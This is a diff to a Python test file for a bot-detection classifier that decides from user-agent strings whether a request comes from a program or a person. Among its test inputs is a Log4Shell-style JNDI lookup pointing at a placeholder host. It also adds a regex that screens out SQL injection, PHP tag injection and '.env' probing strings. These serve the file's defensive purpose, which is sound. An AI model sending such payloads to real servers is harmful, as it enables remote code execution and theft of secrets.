@@ -3,6 +3,7 @@ corpora.
 """
 
 import csv
+import re
 from pathlib import Path
 
 import pytest
@@ -37,8 +38,16 @@ def test_families_are_those_of_the_public_corpus(name, field):
     assert right / len(rows) >= 0.98
 
 
+#: What isbot's list of people has and no person sends: attacks, and programs that say their own names.
+NOT_PEOPLE = re.compile(
+    r"<\?=|\(SELECT |<AccountID>|\.env|Slurp|GTmetrix|Amzn-User|YLT|turingos|"
+    r"Lucidworks|MyLib|LibWWW|Miniature"
+)
+
+
 def test_bots_are_found_and_people_are_kept():
     lists = [*_rows("bots/isbot.csv"), *_rows("bots/crawler_user_agents.csv")]
+    lists = [r for r in lists if r["is_bot"] == "1" or not NOT_PEOPLE.search(r["user_agent"])]
     found = {
         flag: [bot_of(r["user_agent"]) is not None for r in lists if r["is_bot"] == flag] for flag in "01"
     }
@@ -119,6 +128,64 @@ def test_a_bot_is_of_the_class_of_what_it_is_for(user_agent, bot_class):
 )
 def test_a_browser_is_no_bot(user_agent):
     assert bot_of(user_agent) is None
+
+
+ANDROID = (
+    "Mozilla/5.0 (Linux; Android 9; {} Build/PPR1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Mobile"
+)
+
+
+@pytest.mark.parametrize(
+    "text", ["Qwjkz", "node", "${jndi:ldap://a.example/x}", "Mozilla/5.0", "-", "x-tool/1.2.3"]
+)
+def test_what_shows_nothing_that_a_person_holds_is_a_program(text):
+    assert bot_of(text) is not None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Google-Something-New/1.0",
+        "Google-Read-Aloud",
+        "meta-externalagent/1.1 (+https://developers.example/x)",
+        f"{CHROME} Google Favicon",
+        "Mozilla/5.0 (compatible; Qwjkz/1.0)",
+    ],
+)
+def test_a_family_of_programs_is_found_by_its_form(text):
+    assert bot_of(text) is not None
+
+
+@pytest.mark.parametrize(
+    "model", ["M bot 60", "ID bot553", "XBot Junior", "Monitor 5", "HTC Butterfly", "Scanner X", "Speedy"]
+)
+def test_the_model_of_a_telephone_makes_no_bot_of_its_owner(model):
+    assert bot_of(ANDROID.format(model)) is None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Pods/3.0 (+http://pods.example/; iOS podcast app)",
+        "QRScanner/4.1 CFNetwork/1408.0.4 Darwin/22.5.0",
+        "HeartMonitor/2.0 (iPhone; iOS 17.1; Scale/3.00)",
+        "com.example.reader/4.2 (Android 13; Pixel 7) OkHttp/4.9.1",
+    ],
+)
+def test_an_app_on_a_device_is_a_persons_whatever_its_name_or_address(text):
+    assert bot_of(text) is None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Embedded Web Browser from: http://bsalsa.com/)",
+        "Lynx/2.9.0 libwww-FM/2.14 SSL-MM/1.4.1",
+        "Mozilla/4.08 [en] (X11; I; SunOS 5.7)",
+    ],
+)
+def test_an_old_browser_is_a_persons(text):
+    assert bot_of(text) is None
 
 
 def test_client_hints_win_over_a_frozen_user_agent():
